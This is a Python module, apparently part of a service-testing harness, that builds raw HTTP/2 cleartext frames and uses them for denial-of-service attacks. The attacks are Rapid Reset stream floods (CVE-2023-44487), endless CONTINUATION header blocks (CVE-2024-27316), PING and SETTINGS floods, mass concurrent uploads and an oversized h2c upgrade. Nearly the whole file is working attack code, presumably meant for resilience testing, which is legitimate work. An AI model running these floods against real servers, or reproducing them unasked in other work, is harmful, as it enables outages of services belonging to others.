"""HTTP/2 without TLS (h2c) from bare frames, as far as attacks need it: flow control is kept to, the rest is not."""

import asyncio
import contextlib
import struct
import time

from attacks import wire

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
PADDED, PRIORITY = 8, 32
# The service's header compression is switched off (table of 0 bytes), so that a status can be read without a state.
NO_TABLE = struct.pack(">HI", 1, 0)
FIRST_WINDOW = 65_535
LARGEST_FRAME = 16_384
STATIC_STATUS = {8: 200, 9: 204, 10: 206, 11: 304, 12: 400, 13: 404, 14: 500}
UPGRADE = ("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAEAAAAA")


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def text(value):
    """A string of a header, not compressed; its length in HPACK's 7-bit prefix form."""
    value = value.encode("latin-1")
    if len(value) < 127:
        return bytes([len(value)]) + value
    left, length = len(value) - 127, b"\x7f"
    while left >= 128:
        length, left = length + bytes([left % 128 + 128]), left // 128
    return length + bytes([left]) + value


def block(target, method, path):
    """The headers of a request, none of which the service is to remember."""
    pairs = {":method": method, ":path": path, ":scheme": "http", ":authority": f"{wire.HOST}:{target.port}"}
    pairs["content-type"] = "application/json"
    if target.key:
        pairs["authorization"] = f"Bearer {target.key}"
    return b"".join(b"\x00" + text(name) + text(value) for name, value in pairs.items())


def digits(data):
    """A status in HPACK's Huffman code: 0, 1 and 2 have five bits, 3 to 9 have six."""
    bits = "".join(f"{byte:08b}" for byte in data)
    number = ""
    while len(number) < 3:
        width = 5 if int(bits[:5], 2) <= 2 else 6
        number += str(int(bits[:width], 2) if width == 5 else int(bits[:6], 2) - 0b011001 + 3)
        bits = bits[width:]
    return int(number)


def status(payload):
    """The status of a block of response headers, which comes first."""
    if payload[0] & 0xE0 == 0x20:
        return status(payload[1:])
    if payload[0] & 0x80:
        return STATIC_STATUS[payload[0] & 0x7F]
    value = payload[2 : 2 + (payload[1] & 0x7F)]
    return digits(value) if payload[1] & 0x80 else int(value)


class Connection:
    """One connection: the windows that the service has opened, and the responses of its streams."""

    def __init__(self, reader, writer):
        self.reader, self.writer = reader, writer
        self.windows = {0: FIRST_WINDOW}
        self.first_window = FIRST_WINDOW
        self.statuses, self.bodies, self.ended, self.reset = {}, {}, set(), set()
        self.closed = False
        self.changed = asyncio.Condition()

    async def read(self):
        """Reads frames until the service ends the connection."""
        with contextlib.suppress(*wire.ENDED):
            while True:
                start = await self.reader.readexactly(9)
                payload = await self.reader.readexactly(int.from_bytes(start[:3], "big"))
                kind, flags, stream = struct.unpack(">BBI", start[3:])
                self.take(kind, flags, stream, payload)
                async with self.changed:
                    self.changed.notify_all()
        self.closed = True
        async with self.changed:
            self.changed.notify_all()

    def take(self, kind, flags, stream, payload):
        if kind == WINDOW_UPDATE:
            self.windows[stream] = self.window(stream) + int.from_bytes(payload, "big")
        elif kind == SETTINGS and not flags & ACK:
            self.settings(payload)
            self.writer.write(frame(SETTINGS, ACK))
        elif kind == HEADERS:
            skipped = bool(flags & PADDED) + 5 * bool(flags & PRIORITY)
            self.statuses.setdefault(stream, status(payload[skipped:]))
        elif kind == DATA:
            self.bodies[stream] = (self.bodies.get(stream, b"") + payload)[: wire.KEPT]
            update = struct.pack(">I", max(1, len(payload)))
            self.writer.write(frame(WINDOW_UPDATE, 0, 0, update) + frame(WINDOW_UPDATE, 0, stream, update))
        elif kind == RST_STREAM:
            self.reset.add(stream)
        if kind == RST_STREAM or kind in (HEADERS, DATA) and flags & END_STREAM:
            self.ended.add(stream)

    def settings(self, payload):
        for at in range(0, len(payload), 6):
            name, value = struct.unpack_from(">HI", payload, at)
            if name == 4:
                self.first_window = value

    def window(self, stream):
        return self.windows.get(stream, self.first_window)

    async def wait(self, condition, until):
        """Waits for a frame that makes the condition true; whether it is, by then."""
        async with self.changed:
            with contextlib.suppress(asyncio.TimeoutError):
                await asyncio.wait_for(
                    self.changed.wait_for(lambda: self.closed or condition()), max(0.01, until - time.monotonic())
                )
        return condition() and not self.closed

    async def upload(self, stream, size, until):
        """Sends a body as fast as the service opens its windows. A reset ends that, a response does not."""
        sent, data = 0, b" " * LARGEST_FRAME
        while sent < size:
            patience = min(until, time.monotonic() + 1) if stream in self.ended else until
            open_ = lambda: stream in self.reset or min(self.window(0), self.window(stream)) >= len(data)  # noqa: E731
            if not await self.wait(open_, patience) or stream in self.reset:
                return
            for each in (0, stream):
                self.windows[each] = self.window(each) - len(data)
            sent += len(data)
            self.writer.write(frame(DATA, END_STREAM if sent >= size else 0, stream, data))
            await self.writer.drain()

    def outcome(self, stream):
        if stream not in self.statuses:
            return wire.CLOSED if self.closed or stream in self.ended else wire.OPEN
        body = self.bodies.get(stream, b"")
        return wire.Response(self.statuses[stream], {}, body, len(body))


async def connection(target, until, play, upgrade=b""):
    """Opens a connection, by an HTTP/1.1 request that asks for it or at once, and lets `play` use it."""
    try:
        reader, writer = await wire.connected(target, wire.Script(None))
    except OSError:
        return [wire.REFUSED]
    try:
        if upgrade:
            writer.write(upgrade)
            first = await asyncio.wait_for(wire.response(reader), max(0.1, until - time.monotonic()))
            if first.status != 101:
                return [first]
        writer.write(PREFACE + frame(SETTINGS, payload=NO_TABLE))
        opened = Connection(reader, writer)
        reading = asyncio.create_task(opened.read())
        try:
            return await play(opened)
        finally:
            if reading.done():
                reading.result()  # a fault of this client
            reading.cancel()
    except asyncio.TimeoutError:
        return [wire.OPEN]
    except wire.ENDED:
        return [wire.CLOSED]
    finally:
        writer.transport.abort()


async def bodies(target, seconds, path, methods, size):
    """One stream for each method, all on one connection, each with a body of blanks."""
    until = time.monotonic() + seconds

    async def play(opened):
        streams = range(1, 2 * len(methods), 2)
        for stream, method in zip(streams, methods):
            opened.writer.write(frame(HEADERS, END_HEADERS, stream, block(target, method, path)))
        await asyncio.gather(*(opened.upload(stream, size, until - 2) for stream in streams))
        await opened.wait(lambda: opened.ended.issuperset(streams), until)
        return [opened.outcome(stream) for stream in streams]

    return await connection(target, until, play)


async def upgrade_with_body(target, seconds, path, method, size):
    """Asks for HTTP/2 with a request whose body would have to be kept until it has changed."""
    until = time.monotonic() + seconds
    head = wire.head(target, method, path, *UPGRADE, length=size)

    async def play(opened):
        await opened.wait(lambda: 1 in opened.ended, until)
        return [opened.outcome(1)]

    return await connection(target, until, play, head + b" " * size)


async def flood(target, seconds, frames, streams=()):
    """Sends all frames without waiting for anything; then waits until the service closes the connection or responds."""
    until = time.monotonic() + seconds

    async def play(opened):
        await asyncio.wait_for(wire.send(opened.writer, frames), seconds)
        opened.writer.write(frame(PING, payload=b"finished"))
        await opened.wait(lambda: opened.ended.issuperset(streams) and bool(streams), min(until, time.monotonic() + 2))
        return [wire.CLOSED] if opened.closed else [opened.outcome(stream) for stream in streams]

    return await connection(target, until, play)


def reset_streams(target, path, count):
    """Streams that are opened and reset at once (CVE-2023-44487)."""
    cancel = struct.pack(">I", 8)
    headers = block(target, "GET", path)
    for stream in range(1, 2 * count, 2):
        yield frame(HEADERS, END_HEADERS | END_STREAM, stream, headers) + frame(RST_STREAM, 0, stream, cancel)


def endless_headers(target, path, size):
    """A header block that goes on and on (CVE-2024-27316)."""
    yield frame(HEADERS, 0, 1, block(target, "GET", path))
    more = b"".join(b"\x00" + text(f"x-{number}") + text("x" * 100) for number in range(140))[:LARGEST_FRAME]
    for _ in range(size // len(more)):
        yield frame(CONTINUATION, 0, 1, more)


def pings(target, count):
    for _ in range(count):
        yield frame(PING, payload=b"01234567") * 100


def setting_frames(target, count):
    for _ in range(count):
        yield frame(SETTINGS, payload=NO_TABLE) * 100
